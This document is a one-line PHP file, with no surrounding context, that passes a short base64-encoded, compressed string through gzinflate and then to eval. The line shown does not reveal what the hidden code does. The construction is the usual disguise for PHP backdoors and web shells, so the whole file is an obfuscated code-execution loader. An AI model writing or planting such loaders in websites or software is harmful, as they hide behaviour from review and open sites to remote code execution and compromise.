<?php eval(gzinflate(base64_decode('y0lNzMnXBQA='))); ?>
